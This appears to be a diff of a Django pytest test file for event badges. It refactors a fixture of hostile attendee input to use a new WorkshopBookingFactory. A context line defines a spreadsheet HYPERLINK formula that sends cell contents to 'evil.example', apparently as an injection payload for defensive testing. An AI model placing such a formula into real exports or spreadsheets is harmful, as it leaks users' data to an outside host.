@@ -9,7 +9,7 @@ from pypdf import PdfReader
 from core.pdf import ForbiddenResource, ProjectFilesOnly
 from registrations.badges import Badge, render_badges
 from registrations.models import Registration
-from tests.factories import EventFactory, UserFactory
+from tests.factories import EventFactory, UserFactory, WorkshopBookingFactory
 
 pytestmark = pytest.mark.django_db
 
@@ -108,7 +108,6 @@ FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
 def hostile_attendee(db):
     """A registration whose every typed field is an attack, booked on a workshop."""
     from events.models import Session
-    from registrations.models import WorkshopBooking
     from tests.factories import RegistrationFactory, SessionFactory
 
     event = EventFactory()
@@ -123,7 +122,7 @@ def hostile_attendee(db):
         user__verified=True,
     )
     workshop = SessionFactory(event=event, kind=Session.Kind.WORKSHOP, capacity=20)
-    WorkshopBooking.objects.create(registration=registration, session=workshop, status="booked")
+    WorkshopBookingFactory(registration=registration, session=workshop, status="booked")
     return registration, workshop
 
 
